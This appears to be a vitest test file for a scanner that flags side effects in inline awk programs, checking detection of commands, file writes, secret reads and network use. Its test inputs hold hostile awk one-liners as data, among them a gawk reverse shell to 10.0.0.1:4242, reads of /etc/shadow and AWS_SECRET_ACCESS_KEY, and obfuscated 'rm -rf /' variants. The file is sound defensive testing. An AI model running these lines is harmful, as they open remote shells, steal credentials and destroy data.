import { describe, expect, it } from 'vitest';
import { scanInlineCode, type InlineScan } from './index.js';

const scan = (code: string): InlineScan => scanInlineCode('awk', code);
const effects = (r: InlineScan): string[] => r.findings.map((f) => `${f.kind} ${f.target.value}`);
const clean = (r: InlineScan): void => expect(r).toEqual({ shell: [], findings: [], dynamic: [] });

describe('awk: benign programs', () => {
  it.each([
    '{print $1}',
    '-F: $3 > 1000 {print $1}',
    '/error/ { n++ } END { print n " system(\\"rm -rf /\\")" }',
    '{ sum += $2 } END { printf "%d\\n", sum / NR } # system("rm -rf /")',
    'NR > 1 && $2 > 5 { print ($1 > $2) }',
  ])('%s', (code) => clean(scan(code)));
});

describe('awk: effects', () => {
  it('commands', () => {
    expect(scan('END { system("rm -rf /tmp/x") }').shell).toEqual(['rm -rf /tmp/x']);
    expect(scan('{ print $0 | "sort -u" }').shell).toEqual(['sort -u']);
    expect(scan('BEGIN { "date" | getline d; print d }').shell).toEqual(['date']);
    expect(scan('BEGIN { cmd = "ls -l"; while ((cmd | getline line) > 0) print line; close(cmd) }').shell).toEqual(['ls -l']);
    expect(scan('{ print | "sh" }').shell).toEqual(['sh']);
    const r = scan('{ system("rm " $1) }');
    expect(effects(r)).toEqual(['proc.exec ']);
    expect(r.dynamic.length).toBe(1);
  });

  it('files and environment', () => {
    expect(effects(scan('{ print $1 > "/tmp/out" } { print >> "log.txt" }'))).toEqual(['fs.write /tmp/out', 'fs.write log.txt']);
    expect(effects(scan('BEGIN { while ((getline line < "/etc/shadow") > 0) print line }'))).toEqual(['secret.read /etc/shadow']);
    expect(effects(scan('BEGIN { print ENVIRON["AWS_SECRET_ACCESS_KEY"], ENVIRON["HOME"] }'))).toEqual(['secret.read AWS_SECRET_ACCESS_KEY']);
    expect(effects(scan('BEGIN { for (k in ENVIRON) print k "=" ENVIRON[k] }'))).toEqual(['secret.read ']);
  });

  it('network special files and the reverse shell', () => {
    const r = scan('BEGIN {s = "/inet/tcp/0/10.0.0.1/4242"; while(42) { do{ printf "shell>" |& s; s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != "exit") close(s); }}');
    expect(effects(r)).toEqual(['net.connect 10.0.0.1', 'proc.exec ', 'net.shell 10.0.0.1']);
    expect(effects(scan('BEGIN { s = "/inet/tcp/8080/0/0"; s |& getline }'))).toEqual(['net.listen :8080']);
  });

  it.each([
    'BEGIN { c = "rm" " -rf /"; system(c) }',
    'BEGIN { system("rm" " " "-rf /") }',
    'BEGIN { print "x" | "rm -rf /" }',
  ])('evasion: %s', (code) => expect(scan(code).shell).toEqual(['rm -rf /']));
});
